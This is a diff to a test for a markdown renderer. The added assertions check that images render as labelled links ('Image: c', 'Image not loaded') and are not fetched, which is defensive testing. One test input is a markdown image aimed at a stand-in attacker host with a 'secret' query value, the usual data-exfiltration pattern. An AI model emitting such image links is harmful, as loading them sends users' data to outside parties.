@@ -52,6 +52,9 @@ def test_web_links_and_images_stay_links():
         "[a](https://example.org/x) ![c](https://example.org/c.png) <mailto:a@b.c>"
     )
     assert _urls(html) == ["https://example.org/x", "https://example.org/c.png", "mailto:a@b.c"]
+    # labelled as the live view labels them: the address alone read as a plain link
+    assert ">Image: c</a>" in html and 'title="Image not loaded: https://example.org/c.png"' in html
+    assert ">Image</a>" in render_markdown("![](https://attacker.example/?q=secret)")
 
 
 #: Bidirectional and zero-width controls: they change how the text around them reads (U+202E
